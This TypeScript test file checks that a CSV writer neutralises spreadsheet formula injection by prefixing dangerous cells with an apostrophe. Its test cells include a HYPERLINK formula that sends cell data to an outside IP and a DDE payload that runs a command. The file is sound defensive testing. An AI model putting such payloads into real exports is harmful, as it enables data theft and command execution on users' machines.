import assert from 'node:assert/strict'
import { globSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { writeCsv } from './write-csv.ts'

const root = join(import.meta.dirname, '../..')
const readBack = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' })

describe('a written CSV', () => {
  for (const cell of [
    '=HYPERLINK("http://198.51.100.7/?"&A1,"点我")',
    "=cmd|' /C calc'!A0",
    '+86138',
    '-2+3',
    '@SUM(1+9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])
    it(`makes text of ${JSON.stringify(cell)}`, () =>
      assert.deepEqual(readBack(writeCsv([[cell]])), [[`'${cell}`]]))

  it('is read back as it was, but for the apostrophe of what would be a formula', () => {
    const cells = fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 4 })
    fc.assert(
      fc.property(cells, (row) => {
        const [read = []] = readBack(writeCsv([row]))
        for (const [at, cell] of row.entries()) assert.ok(read[at] === cell || read[at] === `'${cell}`)
        assert.ok(read.every((cell) => !/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell)))
      }),
    )
  })

  it('is written nowhere else: no other file puts the mark in front or joins cells by commas and lines', () => {
    const writers = globSync('{server,core,web,bin}/**/*.{ts,tsx,mjs}', { cwd: root })
      .filter((file) => !/\.test\.|\/dist\/|write-csv/.test(file))
      .filter((file) => /text\/csv|replaceAll\('"', '""'\)/.test(readFileSync(join(root, file), 'utf8')))
    assert.deepEqual(writers, [])
  })
})
